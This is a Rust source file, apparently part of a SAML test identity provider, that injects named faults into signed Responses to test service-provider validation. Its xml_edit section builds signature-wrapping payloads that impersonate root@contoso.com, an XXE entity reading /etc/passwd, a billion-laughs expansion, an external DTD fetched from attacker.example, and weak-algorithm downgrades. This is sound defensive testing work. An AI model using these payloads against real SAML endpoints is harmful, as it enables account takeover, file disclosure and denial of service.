//! How each named fault ([`crate::Fault`]) changes the Response the IdP is about to send: on the
//! message's fields before signing, or on its text, before signing (the IdP signs the odd
//! message, as a broken or hostile IdP would) or after (the envelope only).

use crate::Fault;
use chrono::Duration;
use protocol::fixtures::Fixture;
use protocol::saml::messages::{Issuer, NameId, Response as SamlResponse, Signing, Status};
use protocol::saml::{self as s, xml};

pub(super) fn apply_fault(
    fault: Fault,
    r: &mut SamlResponse,
    signing: &mut Signing,
    key: &mut protocol::keys::SigningKey,
    now: chrono::DateTime<chrono::Utc>,
) {
    let elsewhere = "https://sp.elsewhere.example/saml/acs".to_owned();
    match fault {
        Fault::Expired => {
            if let Some(a) = r.assertion.as_mut() {
                a.conditions.not_before = Some(now - Duration::hours(2));
                a.conditions.not_on_or_after = Some(now - Duration::hours(1));
                a.confirmation.not_on_or_after = Some(now - Duration::hours(1));
            }
        }
        Fault::NotYetValid => {
            if let Some(a) = r.assertion.as_mut() {
                a.conditions.not_before = Some(now + Duration::hours(1));
            }
        }
        Fault::WrongAudience => {
            if let Some(a) = r.assertion.as_mut() {
                a.conditions.audiences = vec!["https://sp.elsewhere.example/".into()];
            }
        }
        Fault::WrongIssuer => {
            r.issuer = other_idp();
            if let Some(a) = r.assertion.as_mut() {
                a.issuer = other_idp();
            }
        }
        Fault::ResponseIssuerWrong => r.issuer = other_idp(),
        Fault::AssertionIssuerWrong => {
            if let Some(a) = r.assertion.as_mut() {
                a.issuer = other_idp();
            }
        }
        Fault::ConditionsExpired => {
            if let Some(a) = r.assertion.as_mut() {
                a.conditions.not_before = Some(now - Duration::hours(2));
                a.conditions.not_on_or_after = Some(now - Duration::hours(1));
            }
        }
        Fault::ConfirmationExpired => {
            if let Some(a) = r.assertion.as_mut() {
                a.confirmation.not_on_or_after = Some(now - Duration::hours(1));
            }
        }
        Fault::ResponseInResponseToWrong => r.in_response_to = Some("id-never-sent".into()),
        Fault::ConfirmationInResponseToWrong => {
            if let Some(a) = r.assertion.as_mut() {
                a.confirmation.in_response_to = Some("id-never-sent".into());
            }
        }
        Fault::NotYetValidPastSkew | Fault::NotYetValidWithinSkew => {
            if let Some(a) = r.assertion.as_mut() {
                let ahead = if fault == Fault::NotYetValidPastSkew {
                    121
                } else {
                    120
                };
                a.conditions.not_before = Some(now + Duration::seconds(ahead));
            }
        }
        Fault::ConditionsExpiredPastSkew | Fault::ConditionsExpiredWithinSkew => {
            if let Some(a) = r.assertion.as_mut() {
                let ago = if fault == Fault::ConditionsExpiredPastSkew {
                    120
                } else {
                    119
                };
                a.conditions.not_before = Some(now - Duration::minutes(10));
                a.conditions.not_on_or_after = Some(now - Duration::seconds(ago));
            }
        }
        Fault::ConfirmationExpiredPastSkew | Fault::ConfirmationExpiredWithinSkew => {
            if let Some(a) = r.assertion.as_mut() {
                let ago = if fault == Fault::ConfirmationExpiredPastSkew {
                    120
                } else {
                    119
                };
                a.confirmation.not_on_or_after = Some(now - Duration::seconds(ago));
            }
        }
        Fault::WrongDestination => r.destination = Some(elsewhere),
        Fault::WrongRecipient => {
            if let Some(a) = r.assertion.as_mut() {
                a.confirmation.recipient = Some(elsewhere);
            }
        }
        Fault::WrongInResponseTo => {
            r.in_response_to = Some("id-never-sent".into());
            if let Some(a) = r.assertion.as_mut() {
                a.confirmation.in_response_to = Some("id-never-sent".into());
            }
        }
        Fault::Unsigned => *signing = Signing::Unsigned,
        Fault::UntrustedKey => *key = Fixture::IdpUntrusted.signing_key(),
        // The same private key; only the certificate the signature carries in KeyInfo changes.
        Fault::KeyInfoCertificateExpired | Fault::KeyInfoCertificateNotYetValid => {
            let (start, days) = if fault == Fault::KeyInfoCertificateExpired {
                (now - Duration::days(400), 365)
            } else {
                (now + Duration::days(30), 365)
            };
            if let Some(k) = with_keyinfo_certificate(key, |k| {
                k.self_signed_certificate("Microsoft Azure Federated SSO Certificate", start, days)
                    .ok()
                    .map(|made| made.certificate)
            }) {
                *key = k;
            }
        }
        Fault::KeyInfoCertificateOtherKey => {
            if let Some(k) =
                with_keyinfo_certificate(key, |_| Some(Fixture::IdpUntrusted.certificate()))
            {
                *key = k;
            }
        }
        Fault::StatusRequester | Fault::StatusResponder => {
            r.assertion = None;
            r.status = Status {
                code: if fault == Fault::StatusRequester {
                    s::STATUS_REQUESTER
                } else {
                    s::STATUS_RESPONDER
                }
                .into(),
                sub_code: Some(s::STATUS_AUTHN_FAILED.into()),
                message: Some("The user could not be authenticated.".into()),
            };
        }
        Fault::MissingNameId => {
            if let Some(a) = r.assertion.as_mut() {
                a.name_id = None;
            }
        }
        Fault::NameIdPersistent => {
            if let Some(a) = r.assertion.as_mut() {
                a.name_id = Some(NameId {
                    value: "AAAAAAAAAAAAAAAAAAAAAFzXYOvPqXvnpAAnHqvVN5o".into(),
                    format: Some(s::NAMEID_PERSISTENT.into()),
                });
            }
        }
        Fault::NameIdLeadingSpace => name_id_value(r, |v| format!(" {v}")),
        Fault::NameIdTrailingSpace => name_id_value(r, |v| format!("{v} ")),
        Fault::NameIdLeadingTab => name_id_value(r, |v| format!("\t{v}")),
        Fault::NameIdTrailingNewline => name_id_value(r, |v| format!("{v}\n")),
        Fault::NameIdNbsp => name_id_value(r, |v| format!("{v}\u{A0}")),
        Fault::NameIdZeroWidthSpace => name_id_value(r, |v| v.replacen('@', "\u{200B}@", 1)),
        Fault::NameIdNel => name_id_value(r, |v| format!("{v}\u{85}")),
        Fault::ResponseIssuerFormat => r.issuer.format = Some(s::NAMEID_UNSPECIFIED.into()),
        Fault::AssertionIssuerFormat => {
            if let Some(a) = r.assertion.as_mut() {
                a.issuer.format = Some(s::NAMEID_EMAIL.into());
            }
        }
        Fault::ResponseIssuedADayAgo => r.issue_instant = now - Duration::hours(24),
        Fault::ResponseIssuedPastSkew => r.issue_instant = now + Duration::seconds(121),
        Fault::ResponseIssuedWithinSkew => r.issue_instant = now + Duration::seconds(120),
        Fault::ResponseIssuedStale => r.issue_instant = now - Duration::seconds(12 * 60 + 1),
        Fault::ResponseIssuedAlmostStale => {
            r.issue_instant = now - Duration::seconds(12 * 60);
        }
        Fault::ResponseIssuedADayAhead => r.issue_instant = now + Duration::hours(24),
        Fault::AssertionIssuedADayAgo | Fault::AssertionIssuedADayAhead => {
            if let Some(a) = r.assertion.as_mut() {
                let day = Duration::hours(24);
                a.issue_instant = if fault == Fault::AssertionIssuedADayAgo {
                    now - day
                } else {
                    now + day
                };
            }
        }
        Fault::SessionEnded | Fault::SessionEndsSoon => {
            if let Some(a) = r.assertion.as_mut() {
                a.authn.session_not_on_or_after = Some(if fault == Fault::SessionEnded {
                    now - Duration::minutes(1)
                } else {
                    now + Duration::minutes(5)
                });
            }
        }
        Fault::XswResponseWrapped
        | Fault::ResponseSignatureInAssertion
        | Fault::ReferenceUriEmpty => {
            *signing = Signing::Response;
        }
        Fault::DestinationExtended => map_url(&mut r.destination, |u| format!("{u}x")),
        Fault::DestinationTruncated => map_url(&mut r.destination, |u| {
            let mut u = u.to_owned();
            u.pop();
            u
        }),
        Fault::DestinationTrailingSlash => map_url(&mut r.destination, |u| format!("{u}/")),
        Fault::DestinationCase => map_url(&mut r.destination, upper_path),
        Fault::RecipientExtended | Fault::RecipientTrailingSlash | Fault::RecipientCase => {
            if let Some(a) = r.assertion.as_mut() {
                map_url(&mut a.confirmation.recipient, |u| match fault {
                    Fault::RecipientExtended => format!("{u}x"),
                    Fault::RecipientTrailingSlash => format!("{u}/"),
                    _ => upper_path(u),
                });
            }
        }
        Fault::AudienceExtended | Fault::AudienceTrailingSlash | Fault::AudienceCase => {
            if let Some(a) = r.assertion.as_mut() {
                for audience in &mut a.conditions.audiences {
                    *audience = match fault {
                        Fault::AudienceExtended => format!("{audience}x"),
                        Fault::AudienceTrailingSlash => format!("{audience}/"),
                        _ => upper_path(audience),
                    };
                }
            }
        }
        Fault::AudienceListWithUs => {
            if let Some(a) = r.assertion.as_mut() {
                a.conditions
                    .audiences
                    .insert(0, "https://sp.elsewhere.example/".into());
            }
        }
        Fault::AssertionIssuerSlashToggled | Fault::AssertionIssuerCase => {
            if let Some(a) = r.assertion.as_mut() {
                let v = &a.issuer.value;
                a.issuer.value = if fault == Fault::AssertionIssuerCase {
                    upper_path(v)
                } else if let Some(bare) = v.strip_suffix('/') {
                    bare.to_owned()
                } else {
                    format!("{v}/")
                };
            }
        }
        Fault::StatusRequesterWithAssertion => {
            r.status = Status {
                code: s::STATUS_REQUESTER.into(),
                sub_code: Some(s::STATUS_AUTHN_FAILED.into()),
                message: Some("The user could not be authenticated.".into()),
            };
        }
        Fault::Unsolicited => {
            r.in_response_to = None;
            if let Some(a) = r.assertion.as_mut() {
                a.confirmation.in_response_to = None;
            }
        }
        // Faults made on the XML text (xml_edit), or, for the replays, by the sender.
        Fault::XswEvilAssertionFirst
        | Fault::XswEvilAssertionLast
        | Fault::XswSignedAssertionInsideEvil
        | Fault::XswSignedAssertionInSignatureObject
        | Fault::XswSignedAssertionInAdvice
        | Fault::ResponseIdReusedByAssertion
        | Fault::TransformXpath
        | Fault::DigestSha1
        | Fault::SignatureRsaSha1
        | Fault::SignatureRsaMd5
        | Fault::SignatureHmacSha1
        | Fault::SignatureValueEmpty
        | Fault::SignedContentTampered
        | Fault::ProcessingInstructionInNameId
        | Fault::DtdInternalSubset
        | Fault::DtdExternalEntity
        | Fault::DtdEntityExpansion
        | Fault::DtdExternalSubset
        | Fault::AudienceSecondRestrictionOther
        | Fault::ConfirmationNotBefore
        | Fault::HolderOfKeyConfirmation
        | Fault::EncryptedAssertionInstead
        | Fault::AssertionVersionOld
        | Fault::ReplayPreviousResponse
        | Fault::AssertionRewrapped
        | Fault::NameIdTrailingCr
        | Fault::NameIdCommentSuffix
        | Fault::TwoNameIds
        | Fault::NameIdAndEncryptedId
        | Fault::NameIdAndBaseId
        | Fault::ConfirmationNameId
        | Fault::NameIdOnlyInConfirmation
        | Fault::SpNameQualifierOther
        | Fault::NameQualifierOther
        | Fault::NameIdQualified
        | Fault::EncodingUtf7
        | Fault::EncodingUtf16
        | Fault::EncodingLatin1
        | Fault::EncodingUtf8Declared
        | Fault::NoAuthnStatement
        | Fault::AssertionInExtensions
        | Fault::LogoutUnsigned
        | Fault::LogoutBadSignature
        | Fault::LogoutSignatureWrapped
        | Fault::LogoutIssuerWrong
        | Fault::LogoutStatusError
        | Fault::LogoutDestinationWrong
        | Fault::LogoutRequestEncryptedId => {}
    }
}

/// `key` with the certificate `make` gives it in place of its own: the signature is the same,
/// the KeyInfo it carries is not. `None` when the key cannot be read that way.
fn with_keyinfo_certificate(
    key: &protocol::keys::SigningKey,
    make: impl FnOnce(&protocol::keys::RequestSigningKey) -> Option<protocol::keys::Certificate>,
) -> Option<protocol::keys::SigningKey> {
    let pem = protocol::keys::der_to_pem(key.key_der(), "PRIVATE KEY");
    let request_key = protocol::keys::RequestSigningKey::from_pem(&pem).ok()?;
    let cert = make(&request_key)?;
    protocol::keys::SigningKey::from_pem(&pem, &cert.pem()).ok()
}

fn map_url(url: &mut Option<String>, f: impl Fn(&str) -> String) {
    if let Some(u) = url.as_mut() {
        *u = f(u);
    }
}

/// The URL with everything after its authority in upper case (scheme and host stay as they
/// are: they are case-insensitive, a path is not). Without a path (`https://host`, a URN),
/// everything after the scheme: an identifier is compared as a string all the same.
fn upper_path(url: &str) -> String {
    let after_scheme = url.find("://").map_or(0, |i| i + 3);
    let at = match url[after_scheme..].find('/') {
        Some(i) if url[after_scheme + i..].chars().any(|c| c.is_lowercase()) => after_scheme + i,
        _ => url.find(':').map_or(0, |i| i + 1),
    };
    format!("{}{}", &url[..at], url[at..].to_uppercase())
}

/// An Entra tenant that is not the one the SP trusts.
pub(super) fn other_idp() -> Issuer {
    Issuer::new("https://sts.windows.net/00000000-0000-0000-0000-000000000000/")
}

/// The span of the first element named `local` (any prefix): start of its start tag, end of
/// its end tag, and its prefix (with the colon, or empty).
fn element_span(xml: &str, local: &str) -> Option<(usize, usize, String)> {
    let mut from = 0;
    loop {
        let lt = from + xml[from..].find('<')?;
        let name_end = lt + 1 + xml[lt + 1..].find([' ', '>', '/'])?;
        let name = &xml[lt + 1..name_end];
        let (prefix, tag) = match name.split_once(':') {
            Some((p, t)) => (format!("{p}:"), t),
            None => (String::new(), name),
        };
        if tag == local {
            let close = format!("</{prefix}{local}>");
            let end = lt + xml[lt..].find(&close)? + close.len();
            return Some((lt, end, prefix));
        }
        from = name_end;
    }
}

fn name_id_value(r: &mut SamlResponse, f: impl Fn(&str) -> String) {
    if let Some(n) = r.assertion.as_mut().and_then(|a| a.name_id.as_mut()) {
        n.value = f(&n.value);
    }
}

type TextEdit = Box<dyn Fn(String) -> String + Send + Sync>;

/// A change to the message text no struct field can express: made before signing (the IdP
/// signs the odd message, as a broken or hostile IdP would) or after (the envelope only).
pub(super) enum Edit {
    None,
    BeforeSigning(TextEdit),
    AfterSigning(TextEdit),
}

/// Where the first NameID is in `xml`: the start of its start tag, the end of its start tag
/// (after `>`), the start of its end tag, and the end of the element; plus its prefix.
fn name_id_span(xml: &str) -> Option<(usize, usize, usize, usize, String)> {
    let tag_at = xml.find("NameID ").or_else(|| xml.find("NameID>"))?;
    let open = xml[..tag_at].rfind('<')?;
    let prefix = xml[open + 1..tag_at].to_owned();
    let content = tag_at + xml[tag_at..].find('>')? + 1;
    let close_tag = format!("</{prefix}NameID>");
    let close = content + xml[content..].find(&close_tag)?;
    Some((open, content, close, close + close_tag.len(), prefix))
}

fn with_name_id(
    f: impl Fn(&str, (usize, usize, usize, usize), &str) -> String + Send + Sync + 'static,
) -> Edit {
    Edit::BeforeSigning(Box::new(move |xml: String| match name_id_span(&xml) {
        Some((a, b, c, d, prefix)) => f(&xml, (a, b, c, d), &prefix),
        None => xml,
    }))
}

/// `fresh` with its assertion replaced, byte for byte, by the one `previous` carried.
pub(super) fn rewrap(previous: &str, fresh: &str) -> Option<String> {
    let (pa, pb, _) = element_span(previous, "Assertion")?;
    let (a, b, _) = element_span(fresh, "Assertion")?;
    Some(format!(
        "{}{}{}",
        &fresh[..a],
        &previous[pa..pb],
        &fresh[b..]
    ))
}

/// A text edit before signing; `None` from `f` (the shape it expects is not there) leaves
/// the message as it was.
fn before_signing(f: impl Fn(String) -> Option<String> + Send + Sync + 'static) -> Edit {
    Edit::BeforeSigning(Box::new(move |xml: String| f(xml.clone()).unwrap_or(xml)))
}

fn after_signing(f: impl Fn(String) -> Option<String> + Send + Sync + 'static) -> Edit {
    Edit::AfterSigning(Box::new(move |xml: String| f(xml.clone()).unwrap_or(xml)))
}

/// The template's algorithm URIs replaced before signing: the IdP signs with the weak ones.
fn algorithms(pairs: &'static [(&'static str, &'static str)]) -> Edit {
    before_signing(move |mut xml| {
        for (from, to) in pairs {
            xml = xml.replace(
                &format!("Algorithm=\"{from}\""),
                &format!("Algorithm=\"{to}\""),
            );
        }
        Some(xml)
    })
}

fn doctype(dtd: &'static str) -> Edit {
    Edit::AfterSigning(Box::new(move |xml: String| format!("{dtd}{xml}")))
}

/// The value of the first ` ID="..."` attribute in `xml` (the outermost element's).
fn id_value(xml: &str) -> Option<String> {
    let at = xml.find(" ID=\"")? + " ID=\"".len();
    Some(xml[at..at + xml[at..].find('"')?].to_owned())
}

/// `xml` with its outermost element's ID changed to `id`.
fn with_new_id(xml: &str, id: &str) -> Option<String> {
    let old = id_value(xml)?;
    Some(xml.replacen(&format!(" ID=\"{old}\""), &format!(" ID=\"{id}\""), 1))
}

/// The first NameID's value changed to another user of the tenant.
fn name_id_to_root(xml: &str) -> Option<String> {
    let (_, b, c, _, _) = name_id_span(xml)?;
    Some(format!("{}root@contoso.com{}", &xml[..b], &xml[c..]))
}

/// The signed assertion moved inside an evil copy of itself, at the place `at` finds in the
/// copy (given the assertion prefix), wrapped by `wrap` (given the prefix and the assertion).
fn inside_evil(
    xml: &str,
    at: impl Fn(&str, &str) -> Option<usize>,
    wrap: impl Fn(&str, &str) -> String,
) -> Option<String> {
    let (a, b, p) = element_span(xml, "Assertion")?;
    let evil = evil_copy(&xml[a..b])?;
    let at = at(&evil, &p)?;
    Some(format!(
        "{}{}{}{}{}",
        &xml[..a],
        &evil[..at],
        wrap(&p, &xml[a..b]),
        &evil[at..],
        &xml[b..]
    ))
}

/// The attacker's assertion: a copy of the signed one with its signature removed, another ID,
/// and the NameID of another user.
fn evil_copy(assertion: &str) -> Option<String> {
    // An assertion the IdP left unsigned (only its Response signed) is copied as it is.
    let unsigned = match element_span(assertion, "Signature") {
        Some((a, b, _)) => format!("{}{}", &assertion[..a], &assertion[b..]),
        None => assertion.to_owned(),
    };
    name_id_to_root(&with_new_id(&unsigned, "_evil")?)
}

fn declaration(encoding: &'static str) -> Edit {
    Edit::AfterSigning(Box::new(move |xml: String| {
        format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{xml}")
    }))
}

/// The text edit a fault needs, if any (`idp` is the Issuer, `sp` the app's Identifier).
pub(super) fn xml_edit(
    fault: Fault,
    idp: &str,
    sp: &str,
    now: chrono::DateTime<chrono::Utc>,
) -> Edit {
    let attribute = |extra: String| {
        with_name_id(move |xml, (a, _, _, _), prefix| {
            let name_end = a + 1 + prefix.len() + "NameID".len();
            format!("{}{extra}{}", &xml[..name_end], &xml[name_end..])
        })
    };
    let insert_after = |element: fn(&str) -> String| {
        with_name_id(move |xml, (_, _, _, d), prefix| {
            format!("{}{}{}", &xml[..d], element(prefix), &xml[d..])
        })
    };
    match fault {
        Fault::NameIdTrailingCr => {
            with_name_id(|xml, (_, _, c, _), _| format!("{}&#13;{}", &xml[..c], &xml[c..]))
        }
        Fault::NameIdCommentSuffix => with_name_id(|xml, (_, _, c, _), _| {
            format!("{}<!---->.evil.example{}", &xml[..c], &xml[c..])
        }),
        Fault::TwoNameIds => with_name_id(|xml, (a, b, _, d), prefix| {
            let second = format!("{}root@contoso.com</{prefix}NameID>", &xml[a..b]);
            format!("{}{second}{}", &xml[..d], &xml[d..])
        }),
        Fault::NameIdAndEncryptedId => insert_after(|p| {
            format!(
                "<{p}EncryptedID><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></{p}EncryptedID>"
            )
        }),
        Fault::NameIdAndBaseId => insert_after(|p| format!("<{p}BaseID NameQualifier=\"x\"/>")),
        Fault::NameIdOnlyInConfirmation => Edit::BeforeSigning(Box::new(|xml: String| {
            let Some((a, _, _, d, prefix)) = name_id_span(&xml) else {
                return xml;
            };
            let name_id = xml[a..d].to_owned();
            let without = format!("{}{}", &xml[..a], &xml[d..]);
            let tag = format!("<{prefix}SubjectConfirmationData");
            match without.find(&tag) {
                Some(at) => format!("{}{name_id}{}", &without[..at], &without[at..]),
                None => xml,
            }
        })),
        Fault::ConfirmationNameId => Edit::BeforeSigning(Box::new(|xml: String| {
            let Some((a, b, _, _, prefix)) = name_id_span(&xml) else {
                return xml;
            };
            let tag = format!("<{prefix}SubjectConfirmationData");
            match xml.find(&tag) {
                Some(at) => format!(
                    "{}{}root@contoso.com</{prefix}NameID>{}",
                    &xml[..at],
                    &xml[a..b],
                    &xml[at..]
                ),
                None => xml,
            }
        })),
        Fault::SpNameQualifierOther => {
            attribute(" SPNameQualifier=\"https://sp.elsewhere.example/\"".into())
        }
        Fault::NameQualifierOther => {
            attribute(" NameQualifier=\"https://idp.elsewhere.example/\"".into())
        }
        Fault::NameIdQualified => attribute(format!(
            " NameQualifier=\"{}\" SPNameQualifier=\"{}\"",
            xml::attr(idp),
            xml::attr(sp)
        )),
        Fault::NoAuthnStatement => {
            Edit::BeforeSigning(Box::new(|xml: String| {
                match element_span(&xml, "AuthnStatement") {
                    Some((a, b, _)) => format!("{}{}", &xml[..a], &xml[b..]),
                    None => xml,
                }
            }))
        }
        // The classic wrapping move: the signed assertion, byte for byte, where a lax SP that
        // searches the document for "an Assertion" still finds it.
        Fault::AssertionInExtensions => Edit::AfterSigning(Box::new(|xml: String| {
            let (Some((a, b, _)), Some((st, _, rp))) = (
                element_span(&xml, "Assertion"),
                element_span(&xml, "Status"),
            ) else {
                return xml;
            };
            let assertion = &xml[a..b];
            let without = format!("{}{}", &xml[..a], &xml[b..]);
            format!(
                "{}<{rp}Extensions>{assertion}</{rp}Extensions>{}",
                &without[..st],
                &without[st..]
            )
        })),
        Fault::XswEvilAssertionFirst | Fault::XswEvilAssertionLast => after_signing(move |xml| {
            let (a, b, _) = element_span(&xml, "Assertion")?;
            let evil = evil_copy(&xml[a..b])?;
            Some(if fault == Fault::XswEvilAssertionFirst {
                format!("{}{evil}{}", &xml[..a], &xml[a..])
            } else {
                format!("{}{evil}{}", &xml[..b], &xml[b..])
            })
        }),
        Fault::XswSignedAssertionInsideEvil => after_signing(|xml| {
            inside_evil(
                &xml,
                |evil, p| evil.rfind(&format!("</{p}Assertion>")),
                |_, signed| signed.to_owned(),
            )
        }),
        Fault::XswSignedAssertionInAdvice => after_signing(|xml| {
            inside_evil(
                &xml,
                |evil, p| {
                    let close = format!("</{p}Conditions>");
                    Some(evil.find(&close)? + close.len())
                },
                |p, signed| format!("<{p}Advice>{signed}</{p}Advice>"),
            )
        }),
        // XSW8: the evil assertion keeps the signature; the signed assertion, its signature
        // taken out, waits in the signature's Object, where `#ID` still finds it.
        Fault::XswSignedAssertionInSignatureObject => after_signing(|xml| {
            let (a, b, _) = element_span(&xml, "Assertion")?;
            let signed = &xml[a..b];
            let (sa, sb, sp) = element_span(signed, "Signature")?;
            let original = format!("{}{}", &signed[..sa], &signed[sb..]);
            let evil = name_id_to_root(&with_new_id(signed, "_evil")?)?;
            let (ea, eb, _) = element_span(&evil, "Signature")?;
            let close = format!("</{sp}Signature>");
            let sig = &evil[ea..eb - close.len()];
            Some(format!(
                "{}{}{sig}<{sp}Object>{original}</{sp}Object>{close}{}{}",
                &xml[..a],
                &evil[..ea],
                &evil[eb..],
                &xml[b..]
            ))
        }),
        // XSW1: the Response is what is signed; it moves, signature removed, into the Object of
        // its own signature, under an envelope whose assertion names root@contoso.com.
        Fault::XswResponseWrapped => after_signing(|xml| {
            let (sa, sb, sp) = element_span(&xml, "Signature")?;
            let original = format!("{}{}", &xml[..sa], &xml[sb..]);
            let evil = with_new_id(&name_id_to_root(&xml)?, "_evil")?;
            let (_, eb, _) = element_span(&evil, "Signature")?;
            let close = eb - format!("</{sp}Signature>").len();
            Some(format!(
                "{}<{sp}Object>{original}</{sp}Object>{}",
                &evil[..close],
                &evil[close..]
            ))
        }),
        Fault::ResponseIdReusedByAssertion => after_signing(|xml| {
            let (a, _, _) = element_span(&xml, "Assertion")?;
            let assertion_id = id_value(&xml[a..])?;
            let response_id = id_value(&xml)?;
            Some(xml.replacen(
                &format!(" ID=\"{response_id}\""),
                &format!(" ID=\"{assertion_id}\""),
                1,
            ))
        }),
        Fault::ResponseSignatureInAssertion => after_signing(|xml| {
            let (sa, sb, _) = element_span(&xml, "Signature")?;
            let signature = xml[sa..sb].to_owned();
            let without = format!("{}{}", &xml[..sa], &xml[sb..]);
            let (a, _, p) = element_span(&without, "Assertion")?;
            let close = format!("</{p}Issuer>");
            let at = a + without[a..].find(&close)? + close.len();
            Some(format!("{}{signature}{}", &without[..at], &without[at..]))
        }),
        Fault::ReferenceUriEmpty => before_signing(|xml| {
            let at = xml.find("Reference URI=\"#")? + "Reference URI=\"".len();
            let end = at + xml[at..].find('"')?;
            Some(format!("{}{}", &xml[..at], &xml[end..]))
        }),
        Fault::TransformXpath => before_signing(|xml| {
            let enveloped = format!("Transform Algorithm=\"{}\"/>", s::ALG_ENVELOPED);
            let at = xml.find(&enveloped)?;
            let p = &xml[xml[..at].rfind('<')? + 1..at];
            let xpath = format!(
                "Transform Algorithm=\"{}\"><{p}XPath xmlns:dsig=\"{}\">\
                 not(ancestor-or-self::dsig:Signature)</{p}XPath></{p}Transform>",
                s::ALG_XPATH,
                s::NS_DSIG
            );
            Some(xml.replacen(&enveloped, &xpath, 1))
        }),
        Fault::DigestSha1 => algorithms(&[(s::ALG_SHA256, s::ALG_SHA1)]),
        Fault::SignatureRsaSha1 => algorithms(&[
            (s::ALG_RSA_SHA256, s::ALG_RSA_SHA1),
            (s::ALG_SHA256, s::ALG_SHA1),
        ]),
        Fault::SignatureRsaMd5 => algorithms(&[
            (s::ALG_RSA_SHA256, s::ALG_RSA_MD5),
            (s::ALG_SHA256, s::ALG_MD5),
        ]),
        Fault::SignatureHmacSha1 => algorithms(&[(s::ALG_RSA_SHA256, s::ALG_HMAC_SHA1)]),
        Fault::SignatureValueEmpty => after_signing(|xml| {
            let (a, b, p) = element_span(&xml, "SignatureValue")?;
            Some(format!(
                "{}<{p}SignatureValue></{p}SignatureValue>{}",
                &xml[..a],
                &xml[b..]
            ))
        }),
        Fault::SignedContentTampered => after_signing(|xml| name_id_to_root(&xml)),
        Fault::ProcessingInstructionInNameId => {
            with_name_id(|xml, (_, _, c, _), _| format!("{}<?evil x?>{}", &xml[..c], &xml[c..]))
        }
        Fault::DtdInternalSubset => doctype("<!DOCTYPE Response [<!ELEMENT Response ANY>]>"),
        Fault::DtdExternalEntity => {
            doctype("<!DOCTYPE Response [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>")
        }
        Fault::DtdEntityExpansion => Edit::AfterSigning(Box::new(|xml: String| {
            let mut dtd = String::from("<!DOCTYPE Response [<!ENTITY lol0 \"lol\">");
            for i in 1..10 {
                let refs = format!("&lol{};", i - 1).repeat(10);
                dtd.push_str(&format!("<!ENTITY lol{i} \"{refs}\">"));
            }
            dtd.push_str("]>");
            // Referenced in the Response's own (unsigned) Status message, where a parser that
            // expands entities meets it before any signature is checked.
            // StatusCode is self-closing, so the message goes last inside Status.
            let xml = match element_span(&xml, "Status") {
                Some((_, b, p)) => {
                    let at = b - format!("</{p}Status>").len();
                    format!(
                        "{}<{p}StatusMessage>&lol9;</{p}StatusMessage>{}",
                        &xml[..at],
                        &xml[at..]
                    )
                }
                None => xml,
            };
            format!("{dtd}{xml}")
        })),
        Fault::DtdExternalSubset => {
            doctype("<!DOCTYPE Response SYSTEM \"http://attacker.example/saml.dtd\">")
        }
        Fault::AudienceSecondRestrictionOther => before_signing(|xml| {
            let (_, b, p) = element_span(&xml, "AudienceRestriction")?;
            Some(format!(
                "{}<{p}AudienceRestriction><{p}Audience>https://sp.elsewhere.example/</{p}Audience></{p}AudienceRestriction>{}",
                &xml[..b],
                &xml[b..]
            ))
        }),
        Fault::ConfirmationNotBefore => before_signing(move |xml| {
            let at = xml.find("SubjectConfirmationData ")? + "SubjectConfirmationData ".len();
            let not_before = s::instant(now - Duration::minutes(5));
            Some(format!(
                "{}NotBefore=\"{not_before}\" {}",
                &xml[..at],
                &xml[at..]
            ))
        }),
        Fault::HolderOfKeyConfirmation => before_signing(|xml| {
            Some(xml.replacen(
                s::CM_BEARER,
                "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key",
                1,
            ))
        }),
        Fault::EncryptedAssertionInstead => after_signing(|xml| {
            let (a, b, _) = element_span(&xml, "Assertion")?;
            Some(format!(
                "{}<saml:EncryptedAssertion xmlns:saml=\"{}\"><xenc:EncryptedData \
                 xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"/></saml:EncryptedAssertion>{}",
                &xml[..a],
                s::NS_ASSERTION,
                &xml[b..]
            ))
        }),
        Fault::AssertionVersionOld => before_signing(|xml| {
            let (a, _, _) = element_span(&xml, "Assertion")?;
            let at = a + xml[a..].find(" Version=\"2.0\"")?;
            Some(format!(
                "{} Version=\"1.1\"{}",
                &xml[..at],
                &xml[at + " Version=\"2.0\"".len()..]
            ))
        }),
        Fault::EncodingUtf7 => declaration("UTF-7"),
        Fault::EncodingUtf16 => declaration("UTF-16"),
        Fault::EncodingLatin1 => declaration("ISO-8859-1"),
        Fault::EncodingUtf8Declared => declaration("UTF-8"),
        _ => Edit::None,
    }
}
